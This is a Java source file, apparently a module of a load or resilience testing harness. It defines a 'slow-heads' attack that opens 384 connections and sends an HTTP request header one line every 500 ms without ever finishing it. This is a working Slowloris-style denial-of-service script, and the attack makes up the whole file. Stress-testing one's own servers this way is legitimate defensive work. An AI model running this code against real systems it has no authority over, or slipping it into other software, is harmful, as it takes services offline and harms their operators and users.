package dev.fdlab.load.attack;

import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;

/** Sends a head that does not end. */
final class SlowHeads implements Attack {

    private static final int PACE_MILLIS = 500;

    @Override
    public String name() {
        return "slow-heads";
    }

    @Override
    public String does() {
        return "sends a line of a head every " + PACE_MILLIS + " ms, and never the last";
    }

    @Override
    public int clients() {
        return 384;
    }

    @Override
    public void live(Target target) throws IOException {
        try (Socket socket = target.connect()) {
            socket.getOutputStream().write("GET /healthz HTTP/1.1\r\n".getBytes(StandardCharsets.US_ASCII));
            for (int line = 0; Target.pause(socket, PACE_MILLIS); line++) {
                socket.getOutputStream().write(("X-" + line + ": x\r\n").getBytes(StandardCharsets.US_ASCII));
            }
        }
    }
}
